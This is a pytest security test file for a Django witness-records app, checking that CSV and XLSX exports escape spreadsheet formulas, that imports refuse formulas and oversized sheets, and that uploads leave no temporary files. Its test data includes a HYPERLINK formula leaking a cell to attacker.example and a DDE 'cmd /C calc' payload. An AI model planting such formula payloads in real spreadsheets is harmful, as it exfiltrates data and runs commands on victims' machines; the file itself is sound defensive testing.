"""Security issue 16: spreadsheet formulas (finding 7), oversized XLSX (finding 8)
and uploads left in the temporary folder (finding 10)."""

import csv
import datetime
import io
import tempfile
import zipfile

import openpyxl
import pytest
import tablib
from django.contrib import admin
from django.core.files.uploadedfile import SimpleUploadedFile
from django.forms import BooleanField
from django.urls import reverse
from django.utils import timezone
from openpyxl.worksheet._read_only import ReadOnlyWorksheet
from openpyxl.worksheet.formula import ArrayFormula

from cases import roles
from cases.models import Person
from cases.resources import PersonResource
from cases.tests.factories import EventFactory, PersonFactory
from cases.tests.personas import login_with_second_factor, user_in
from core import backups
from core.spreadsheets import CSV, XLSX, xlsx_cell, xlsx_text
from jobs import services
from jobs.models import Job, PendingUpload, Upload
from stats.tests.factories import ObservationFactory

pytestmark = pytest.mark.django_db

LEAK = '=HYPERLINK("http://attacker.example/?leak="&A2,"Details")'
XLSX_FORMAT = "1"  # RecordAdmin.formats = (CSV, XLSX)


@pytest.fixture(autouse=True)
def temp_folder(tmp_path, monkeypatch):
    """The system's temporary folder, empty and ours alone: every test checks nothing
    of an upload was left in it."""
    folder = tmp_path / "tmp"
    folder.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(folder))
    return folder


@pytest.fixture(autouse=True)
def _tasks_run_at_once(settings):
    settings.TASKS = {"default": {"BACKEND": "django_tasks.backends.immediate.ImmediateBackend"}}


@pytest.fixture
def researcher(client):
    """A client logged in to the admin as a researcher (who imports and exports)."""
    login_with_second_factor(client, user_in(roles.RESEARCHER))
    return client


def csv_cells(content):
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def xlsx_bytes(rows):
    book = openpyxl.Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def post_import(client, content, *, name="persons.csv", format="0", model="person"):
    return client.post(
        reverse(f"admin:cases_{model}_import"),
        {"format": format, "resource": "0", "import_file": SimpleUploadedFile(name, content)},
    )


def admin_export(client, model, format):
    url = reverse(f"admin:cases_{model}_export")
    form = client.get(url).context["form"]
    data = {name: "on" for name, field in form.fields.items() if isinstance(field, BooleanField)}
    return client.post(url, {**data, "format": format, "resource": "0"})


# --- Finding 7: formulas ---------------------------------------------------------


def test_the_public_case_csv_escapes_formulas_and_keeps_numbers(client):
    EventFactory(publishable=True, title_en="-3", description_en=LEAK)
    response = client.get(reverse("cases-api:event-list") + "?format=csv")
    header, row = csv_cells(response.content)
    cells = dict(zip(header, row, strict=True))
    assert cells["description_en"] == "'" + LEAK
    assert cells["title_en"] == "-3"  # a plain number is not a formula


def test_the_statistics_csv_escapes_formulas(client):
    ObservationFactory(dataset__slug="formulas", dataset__title="@SUM(1+1)", period_label="+1+1")
    response = client.get(
        reverse("stats-api:observation-list"), {"format": "csv", "dataset": "formulas"}
    )
    content = response.content.decode()
    assert "'+1+1" in content and "'@SUM(1+1)" in content
    assert not any(
        cell.startswith(("+", "@")) for row in csv_cells(response.content) for cell in row
    )


def test_the_admin_csv_and_xlsx_exports_escape_formulas(researcher):
    EventFactory(description_en=LEAK, title_en="\tTabbed")
    client = researcher
    header, row = csv_cells(admin_export(client, "event", "0").content)
    cells = dict(zip(header, row, strict=True))
    assert cells["description_en"] == "'" + LEAK and cells["title_en"] == "'\tTabbed"

    book = openpyxl.load_workbook(io.BytesIO(admin_export(client, "event", XLSX_FORMAT).content))
    header, row = book.active.iter_rows(values_only=True)
    cells = dict(zip(header, row, strict=True))
    assert cells["description_en"] == "'" + LEAK and cells["title_en"] == "'\tTabbed"
    assert all(cell.data_type != "f" for line in book.active.iter_rows() for cell in line)


def test_an_admin_import_refuses_a_formula_naming_line_and_column(researcher):
    client = researcher
    quoted = '"' + LEAK.replace('"', '""') + '"'
    content = f"code,pseudonym,sex,birth_year\n,Fine,female,1980\n,{quoted},male,1975\n"
    response = post_import(client, content.encode())
    page = response.content.decode()
    assert "confirm_form" not in response.context
    assert "Line 2, column “pseudonym”" in page
    assert not Person.objects.exists() and not PendingUpload.objects.exists()


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_an_xlsx_import_refuses_a_formula_and_writes_nothing(start):
    data = tablib.Dataset(
        ["", "Fine", "female", 1980], ["", start + "cmd|' /C calc'!A0", "male", 1975]
    )
    data.headers = ["code", "pseudonym", "sex", "birth_year"]
    result = PersonResource().import_data(data, dry_run=False, use_transactions=True)
    assert result.has_validation_errors() and not Person.objects.exists()
    errors = result.invalid_rows[0].field_specific_errors
    assert set(errors) == {"pseudonym"}
    assert "Line 2, column “pseudonym”" in errors["pseudonym"][0]


def test_an_xlsx_formula_cell_is_refused_not_read_as_its_computed_value(researcher):
    content = xlsx_bytes([["code", "pseudonym", "sex"], [None, '=CONCAT("W","1")', "male"]])
    response = post_import(researcher, content, name="p.xlsx", format=XLSX_FORMAT)
    assert "confirm_form" not in response.context
    assert "Line 1, column “pseudonym”" in response.content.decode()


def test_an_xlsx_array_formula_is_refused(researcher):
    book = openpyxl.Workbook()
    book.active.append(["code", "pseudonym", "sex"])
    book.active.append([None, None, "male"])
    book.active["B2"] = ArrayFormula("B2:B2", '=CONCAT("W","1")')
    out = io.BytesIO()
    book.save(out)
    response = post_import(researcher, out.getvalue(), name="p.xlsx", format=XLSX_FORMAT)
    assert "Line 1, column “pseudonym”" in response.content.decode()


def test_an_escaped_export_imports_back_as_it_was():
    person = PersonFactory(pseudonym="- the witness from Hoeryong", birth_year=1980)
    exported = PersonResource().export(queryset=Person.objects.filter(pk=person.pk))
    content = CSV().export_data(exported)
    assert "'- the witness from Hoeryong" in content
    data = CSV(encoding="utf-8").create_dataset(content)
    result = PersonResource().import_data(data, dry_run=False, use_transactions=True)
    assert not result.has_validation_errors(), result.invalid_rows
    person.refresh_from_db()
    assert person.pseudonym == "- the witness from Hoeryong"


# --- Control characters in an XLSX ------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "line\x0bbreak",  # a word processor's line break
        "\x01\x1f\x0c",
        "_x000B_ typed as text",
        "_x005F_x000B_ and _x00_",
        "tab\tnew line",  # XML holds these: left as they are
        "return\r",  # XML reads a bare one back as a line feed: escaped, as Excel does
        "고문 _x",
    ],
)
def test_an_xlsx_cell_holds_any_text_and_reads_back_as_it_was(text):
    illegal = openpyxl.cell.cell.ILLEGAL_CHARACTERS_RE
    written = xlsx_cell(text)
    assert not illegal.search(written)
    assert xlsx_text(written) == text
    if not illegal.search(text) and "_x" not in text and "\r" not in text:
        assert written == text


def test_a_vertical_tab_exports_to_xlsx_and_imports_back():
    # Before: openpyxl's IllegalCharacterError, the whole export refused.
    person = PersonFactory(pseudonym="Witness\x0bfrom Hoeryong _x0041_", birth_year=1980)
    exported = PersonResource().export(queryset=Person.objects.filter(pk=person.pk))
    content = XLSX().export_data(exported)
    cells = next(openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows(min_row=2))
    assert "Witness_x000B_from Hoeryong _x005F_x0041_" in [cell.value for cell in cells]

    Person.objects.filter(pk=person.pk).update(pseudonym="changed")
    data = XLSX().create_dataset(content)
    result = PersonResource().import_data(data, dry_run=False, use_transactions=True)
    assert not result.has_validation_errors(), result.invalid_rows
    person.refresh_from_db()
    assert person.pseudonym == "Witness\x0bfrom Hoeryong _x0041_"


def test_a_background_import_refuses_a_formula_with_row_and_field():
    job = services.job_import_queue(
        user=user_in(roles.RESEARCHER),
        model=Person,
        file_name="persons.csv",
        content=b"code,pseudonym,sex,birth_year\n,@Witness,female,1980\n",
        format="csv",
    )
    job.refresh_from_db()
    assert job.status == Job.Status.REJECTED
    (refusal,) = job.rejected_rows
    assert refusal["row"] == 1 and refusal["field"] == "pseudonym"
    assert not Upload.objects.exists()


# --- Finding 8: oversized XLSX ----------------------------------------------------


@pytest.fixture
def no_cell_read(monkeypatch):
    """Fails the test if openpyxl parses a cell of the sheet."""

    def refuse(*args, **kwargs):
        raise AssertionError("the cells were read")

    monkeypatch.setattr(ReadOnlyWorksheet, "_cells_by_row", refuse)


def test_an_xlsx_declaring_column_xfd_is_refused_before_its_cells_are_read(
    researcher, no_cell_read
):
    book = openpyxl.Workbook()
    for row in range(1, 3001):
        book.active.cell(row=row, column=16384, value="x")
    out = io.BytesIO()
    book.save(out)
    response = post_import(researcher, out.getvalue(), name="wide.xlsx", format=XLSX_FORMAT)
    assert "The sheet has 16384 columns; at most 100 can be imported." in response.content.decode()
    assert "confirm_form" not in response.context and not PendingUpload.objects.exists()


def test_an_xlsx_declaring_too_many_rows_is_refused(researcher, settings, no_cell_read):
    settings.SPREADSHEET_MAX_ROWS = 3
    content = xlsx_bytes([["code", "pseudonym"], *([""] * 2 for _ in range(4))])
    response = post_import(researcher, content, name="p.xlsx", format=XLSX_FORMAT)
    assert "at most 3 can be imported at once" in response.content.decode()


def test_a_sheet_with_too_many_cells_is_refused(researcher, settings, no_cell_read):
    settings.SPREADSHEET_MAX_CELLS = 10
    content = xlsx_bytes([["code", "pseudonym"], *(["", f"W{n}"] for n in range(5))])
    response = post_import(researcher, content, name="p.xlsx", format=XLSX_FORMAT)
    assert "The sheet has more than 10 cells" in response.content.decode()


def test_a_csv_of_empty_cells_is_refused_before_it_is_parsed(researcher, settings, monkeypatch):
    settings.SPREADSHEET_MAX_CELLS = 1000
    monkeypatch.setattr(tablib, "import_set", lambda *args, **kwargs: pytest.fail("parsed"))
    response = post_import(researcher, b"code,pseudonym" + b"," * 2000 + b"\n")
    assert "The sheet has more than 1000 cells" in response.content.decode()
    assert not PendingUpload.objects.exists()


def without_dimension(content):
    """The XLSX without its <dimension> element, as some writers leave it out."""
    source, out = zipfile.ZipFile(io.BytesIO(content)), io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for item in source.infolist():
            data = source.read(item)
            if item.filename == "xl/worksheets/sheet1.xml":
                start = data.index(b"<dimension")
                data = data[:start] + data[data.index(b"/>", start) + 2 :]
            target.writestr(item, data)
    return out.getvalue()


def test_an_xlsx_without_a_dimension_is_refused_at_its_first_too_wide_row(researcher):
    book = openpyxl.Workbook()
    book.active.append(["code", "pseudonym"])
    for row in range(2, 3001):
        book.active.cell(row=row, column=16384, value="x")
    out = io.BytesIO()
    book.save(out)
    content = without_dimension(out.getvalue())
    response = post_import(researcher, content, name="p.xlsx", format=XLSX_FORMAT)
    assert "The sheet has 16384 columns" in response.content.decode()


def test_a_file_over_the_size_limit_is_refused(researcher, settings):
    settings.SPREADSHEET_MAX_BYTES = 1000
    content = b"code,pseudonym\n" + b",Witness\n" * 200
    response = post_import(researcher, content)
    assert "The file is larger than 1000" in response.content.decode()
    assert not PendingUpload.objects.exists()


def test_an_xlsx_that_unpacks_too_large_is_refused(researcher, settings, no_cell_read):
    settings.SPREADSHEET_MAX_BYTES = 20_000
    content = xlsx_bytes([["code", "pseudonym"], *(["", f"{n}" + "a" * 5000] for n in range(100))])
    assert len(content) < 20_000
    response = post_import(researcher, content, name="p.xlsx", format=XLSX_FORMAT)
    assert "The spreadsheet unpacks to more than" in response.content.decode()


def test_a_background_xlsx_import_over_the_limits_is_rejected(settings):
    settings.SPREADSHEET_MAX_COLUMNS = 3
    job = services.job_import_queue(
        user=user_in(roles.RESEARCHER),
        model=Person,
        file_name="persons.xlsx",
        content=xlsx_bytes([["code", "pseudonym", "sex", "birth_year"], ["", "A", "male", 1]]),
        format="xlsx",
    )
    job.refresh_from_db()
    assert job.status == Job.Status.REJECTED and "4 columns" in job.error
    assert not Upload.objects.exists() and not Person.objects.exists()


def test_a_small_xlsx_still_imports(researcher):
    client = researcher
    content = xlsx_bytes([["code", "pseudonym", "sex", "birth_year"], [None, "A", "male", 1970]])
    response = post_import(client, content, name="p.xlsx", format=XLSX_FORMAT)
    assert "confirm_form" in response.context, response.content.decode()


# --- Finding 10: no upload outlives its import -----------------------------------

GOOD = b"code,pseudonym,sex,birth_year\n,Witness,female,1980\n"


def confirm(client, response, model="person"):
    form = response.context["confirm_form"]
    return client.post(reverse(f"admin:cases_{model}_process_import"), form.initial)


def test_a_confirmed_import_leaves_nothing_behind(researcher, temp_folder):
    client = researcher
    response = post_import(client, GOOD)
    assert PendingUpload.objects.count() == 1  # kept for the confirmation, in the database
    assert list(temp_folder.iterdir()) == []
    confirm(client, response)
    assert Person.objects.count() == 1
    assert not PendingUpload.objects.exists() and list(temp_folder.iterdir()) == []


def test_a_refused_preview_leaves_nothing_behind(researcher, temp_folder):
    post_import(researcher, b"code,pseudonym,sex,birth_year\n,Bad,dragon,1980\n")
    assert not PendingUpload.objects.exists() and list(temp_folder.iterdir()) == []


def test_an_unreadable_file_leaves_nothing_behind(researcher, temp_folder):
    post_import(researcher, b"not a spreadsheet", name="p.xlsx", format=XLSX_FORMAT)
    assert not PendingUpload.objects.exists() and list(temp_folder.iterdir()) == []


def test_an_abandoned_preview_is_deleted_after_its_lifetime(researcher, temp_folder):
    client = researcher
    abandoned = post_import(client, GOOD)
    assert list(temp_folder.iterdir()) == []
    PendingUpload.objects.update(created_at=timezone.now() - datetime.timedelta(hours=2))
    client.get(reverse("admin:cases_event_import"))  # any import page purges it
    assert not PendingUpload.objects.exists()
    # and the abandoned preview can no longer be confirmed
    response = confirm(client, abandoned)
    assert response.status_code == 302 and not Person.objects.exists()


def test_an_import_that_fails_leaves_nothing_behind(researcher, temp_folder, monkeypatch):
    client = researcher
    response = post_import(client, GOOD)
    model_admin = type(admin.site.get_model_admin(Person))

    def fail(*args, **kwargs):
        raise RuntimeError("the database went away")

    monkeypatch.setattr(model_admin, "process_dataset", fail)
    with pytest.raises(RuntimeError):
        confirm(client, response)
    assert not PendingUpload.objects.exists() and list(temp_folder.iterdir()) == []


def test_a_backup_leaves_out_the_uploaded_files(monkeypatch, tmp_path):
    commands = []

    def popen(command, **kwargs):
        commands.append(command)
        raise RuntimeError("stop before pg_dump runs")

    monkeypatch.setattr(backups, "postgres_connection", lambda alias: ("nkdb", {}))
    monkeypatch.setattr(backups, "pg_tool", lambda name: name)
    monkeypatch.setattr(backups.subprocess, "Popen", popen)
    with pytest.raises(RuntimeError):
        backups.backup(tmp_path / "x.bak", to=[backups.generate_key_pair()[0]])
    assert "--exclude-table-data=jobs_upload" in commands[0]
    assert "--exclude-table-data=jobs_pendingupload" in commands[0]


def test_an_unconfirmed_background_check_loses_its_file_when_any_job_runs():
    researcher = user_in(roles.RESEARCHER)
    check = services.job_import_queue(
        user=researcher, model=Person, file_name="p.csv", content=GOOD, format="csv"
    )
    assert Upload.objects.filter(job=check).exists()
    Job.objects.filter(pk=check.pk).update(finished_at=timezone.now() - datetime.timedelta(days=2))
    services.job_rebuild_search_queue(user=user_in(roles.ADMINISTRATOR))
    assert not Upload.objects.exists()
